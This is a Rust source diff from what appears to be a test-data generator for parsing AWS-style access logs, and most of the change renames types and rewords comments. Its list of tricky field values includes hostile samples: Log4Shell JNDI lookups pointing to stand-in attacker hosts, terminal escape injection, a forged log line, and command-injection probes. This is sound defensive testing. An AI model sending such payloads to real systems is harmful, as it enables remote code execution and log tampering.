@@ -1,14 +1,14 @@
-//! What attackers, scanners and broken clients send. Every line with one of these is valid, and an event.
+//! Values that attackers, scanners and broken clients send. Every line with one of these is valid, and an event.
 
 use super::rng::Rng;
 use super::text;
 use crate::formats::{Decode, Escapes, Field, Format, Quoting, Split};
 
-/// A value that stands in place of a field's own.
+/// A value that replaces the ordinary value of a field.
 pub(super) struct Trick {
-    /// Which fields it can stand in.
+    /// The fields that can have it.
     pub(super) apply: Apply,
-    value: Value,
+    value: TrickValue,
 }
 
 impl std::fmt::Debug for Trick {
@@ -20,40 +20,40 @@ impl std::fmt::Debug for Trick {
     }
 }
 
-enum Value {
-    /// As it stands.
+enum TrickValue {
+    /// A fixed text.
     Text(&'static str),
-    /// A text, then another so many times.
+    /// A text, followed by another one a number of times.
     Repeated(&'static str, &'static str, usize),
-    /// Made from the time of the event.
-    Made(fn(&mut Rng, u64, &mut Vec<u8>)),
+    /// Computed from the time of the event.
+    Computed(fn(&mut Rng, u64, &mut Vec<u8>)),
 }
 
-/// Which fields a trick can stand in.
+/// The fields that can have a trick.
 #[derive(Debug, Clone, Copy)]
 pub(super) enum Apply {
-    /// Text in quotes that a client chose, but for request lines.
+    /// Quoted text that a client chose, except request lines.
     FreeText,
-    /// The same, where a quote is escaped by a backslash and a line break is not escaped at all.
+    /// The same, if a quote is escaped by a backslash and a line break is not escaped.
     BackslashText,
     /// Request lines.
     Request,
-    /// Addresses with a port.
+    /// Addresses with ports.
     Address,
-    /// Lists in quotes.
+    /// Quoted lists.
     List,
-    /// The list of quoted parts.
+    /// Lists of quoted parts.
     QuotedParts,
     /// The time of the event.
     EventTime,
-    /// Measured times.
+    /// Processing times.
     Measured,
-    /// The field of that name.
+    /// The named field.
     Named(&'static str),
 }
 
 impl Apply {
-    /// Whether a field is one of these.
+    /// Returns whether a field is one of these.
     pub(super) fn to(self, format: &Format, field: &Field) -> bool {
         let text = field.free_text && field.quoting == Quoting::Quoted && field.split == Split::Whole;
         let decodes = |decode| field.columns().first().is_some_and(|column| column.decode == decode);
@@ -75,14 +75,14 @@ impl Trick {
     /// Writes the value.
     pub(super) fn write(&self, rng: &mut Rng, time: u64, out: &mut Vec<u8>) {
         match self.value {
-            Value::Text(text) => out.extend_from_slice(text.as_bytes()),
-            Value::Repeated(first, then, times) => {
+            TrickValue::Text(text) => out.extend_from_slice(text.as_bytes()),
+            TrickValue::Repeated(first, then, times) => {
                 out.extend_from_slice(first.as_bytes());
                 for _ in 0..times {
                     out.extend_from_slice(then.as_bytes());
                 }
             }
-            Value::Made(make) => make(rng, time, out),
+            TrickValue::Computed(make) => make(rng, time, out),
         }
     }
 }
@@ -90,7 +90,7 @@ impl Trick {
 const fn text(apply: Apply, value: &'static str) -> Trick {
     Trick {
         apply,
-        value: Value::Text(value),
+        value: TrickValue::Text(value),
     }
 }
 
@@ -113,20 +113,20 @@ const fn named(name: &'static str, value: &'static str) -> Trick {
 const fn long(apply: Apply, first: &'static str, then: &'static str, times: usize) -> Trick {
     Trick {
         apply,
-        value: Value::Repeated(first, then, times),
+        value: TrickValue::Repeated(first, then, times),
     }
 }
 
-const fn made(apply: Apply, make: fn(&mut Rng, u64, &mut Vec<u8>)) -> Trick {
+const fn computed(apply: Apply, make: fn(&mut Rng, u64, &mut Vec<u8>)) -> Trick {
     Trick {
         apply,
-        value: Value::Made(make),
+        value: TrickValue::Computed(make),
     }
 }
 
 /// Every trick.
 pub(super) static TRICKS: &[Trick] = &[
-    // Escapes: quotes and backslashes, UTF-8, the eight-digit form, bytes that are no UTF-8, a client's own backslash.
+    // Escapes: quotes and backslashes, UTF-8, the eight-digit form, bytes that are not UTF-8, a client's own backslash.
     agent(r"Scanner \x22quoted\x22 (back\x5Cslash; \x5C\x22)"),
     agent(r"Caf\xC3\xA9-Kasse/1.0 (\xE6\x9D\xB1\xE4\xBA\xAC; \xF0\x9F\x9B\x92)"),
     agent(r"Probe/2.0 \x00000022eight digits\x00000022"),
@@ -138,7 +138,7 @@ pub(super) static TRICKS: &[Trick] = &[
     agent(""),
     agent(" "),
     agent(r"\x00\x01\x7F nul"),
-    // Attempts on whatever reads the log.
+    // Attacks on readers of the log.
     agent("${jndi:ldap://attacker.example.net:1389/a}"),
     agent("${${lower:j}${upper:n}di:${lower:l}dap://198.51.100.66/x}"),
     agent(r"\x1B[31mred\x1B[0m \x1B]0;title\x07"),
@@ -149,15 +149,15 @@ pub(super) static TRICKS: &[Trick] = &[
     agent("{\\x22message\\x22: \\x22forged\\x22}"),
     agent(r"first line\x0D\x0A203.0.113.99 - - forged line"),
     agent("{{7*7}} %s%n%x $(id) `id` ;id|id"),
-    // Lengths: AWS cuts a user agent at 8 KB, each byte of which may be escaped.
+    // Lengths: AWS truncates a user agent to 8 KB, and each byte may be escaped.
     long(Apply::FreeText, "Long/1.0 ", "0123456789abcde ", 512),
     long(Apply::FreeText, "Long/2.0 ", r"\xE2\x82\xAC", 2730),
-    // Classic: quotes behind a backslash, line breaks as they are.
+    // Classic: quotes after a backslash, raw line breaks.
     text(Apply::BackslashText, r#"Till \"front\" (model \"X\")"#),
     text(Apply::BackslashText, r#"\"all quoted\""#),
     text(Apply::BackslashText, "Broken Client/1.0 (first line\nsecond line)"),
     text(Apply::BackslashText, "Broken Client/1.1\n\n(behind a blank line)\nend"),
-    // Request lines of every shape seen.
+    // Request lines of every observed form.
     request("- http://www.example.com:80- -"),
     request("- http://www.example.com:8080- "),
     request("- http://www.example.com:80-/ "),
@@ -188,7 +188,7 @@ pub(super) static TRICKS: &[Trick] = &[
         "key=0123456789a&",
         1020,
     ),
-    // Addresses: with brackets, masked, of no form at all, IPv4 within IPv6.
+    // Addresses: with brackets, masked, invalid, IPv4 within IPv6.
     address("[2001:db8::1]:443"),
     address("2001:db8::1:52044"),
     address("2001:db8:0:12:abcd:0:0:1:50718"),
@@ -199,13 +199,13 @@ pub(super) static TRICKS: &[Trick] = &[
     address("unknown:0"),
     text(Apply::List, ""),
     text(Apply::List, "waf,teleport,forward"),
-    // Lists of protocols: cut at 256 bytes, without a last quote.
+    // Lists of protocols: truncated to 256 bytes, without the last quote.
     long(Apply::QuotedParts, "\"h2\",\"http/1.1\",\"", "x-0123456789-", 18),
     text(Apply::QuotedParts, "\"h2\",\"http/1.1\",\"spdy/3"),
     text(Apply::QuotedParts, "\"\""),
-    // Times: none to nine decimals, with a zone and without.
-    made(Apply::EventTime, |_, time, out| text::time_of_seconds(out, time)),
-    made(Apply::EventTime, |rng, time, out| {
+    // Times: with none to nine decimals, with and without a zone.
+    computed(Apply::EventTime, |_, time, out| text::time_of_seconds(out, time)),
+    computed(Apply::EventTime, |rng, time, out| {
         text::time_of_seconds(out, time);
         out.push(b'.');
         let decimals = rng.range(1, 9);
@@ -216,7 +216,7 @@ pub(super) static TRICKS: &[Trick] = &[
     }),
     text(Apply::Measured, "0.0014831542968750"),
     text(Apply::Measured, "1.5E-5"),
-    // Values that no list of AWS's knows yet.
+    // Values that AWS's documentation does not list yet.
     named("type", "h3"),
     named("ssl_cipher", "(NONE)"),
     named("ssl_protocol", "TLSv1.4"),
@@ -238,7 +238,7 @@ pub(super) static TRICKS: &[Trick] = &[
     named("domain_name", "*"),
     named("domain_name", "192.0.2.80:443"),
     named("domain_name", "under_score.Example.COM."),
-    made(Apply::Named("domain_name"), |_, _, out| {
+    computed(Apply::Named("domain_name"), |_, _, out| {
         out.extend_from_slice(b"xn--bcher-kva.example.com");
     }),
     named(
